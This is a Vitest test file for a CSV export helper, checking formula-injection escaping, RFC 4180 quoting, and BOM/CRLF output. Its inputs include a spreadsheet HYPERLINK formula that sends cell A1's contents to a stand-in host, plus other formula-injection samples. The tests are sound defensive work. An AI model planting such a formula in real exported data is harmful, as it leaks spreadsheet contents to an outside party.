import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.ts';

describe('csvCell', () => {
  it('neutralises text a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""Click"")"`);
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\tcmd')).toBe("'\tcmd");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves numbers as numbers, even negative ones, and plain text as it is', () => {
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(87)).toBe('87');
    expect(csvCell('Amira Haile')).toBe('Amira Haile');
    expect(csvCell('ሰላም ዓለም')).toBe('ሰላም ዓለም');
    expect(csvCell(null)).toBe('');
    expect(csvCell(true)).toBe('yes');
  });

  it('quotes per RFC 4180: commas, quotes and line breaks', () => {
    expect(csvCell('Haile, Amira')).toBe('"Haile, Amira"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });
});

describe('toCsv', () => {
  it('starts with a byte-order mark and ends every line with CRLF', () => {
    expect(toCsv(['Name', 'Total'], [['=1+1', 200]])).toBe("\uFEFFName,Total\r\n'=1+1,200\r\n");
  });
});
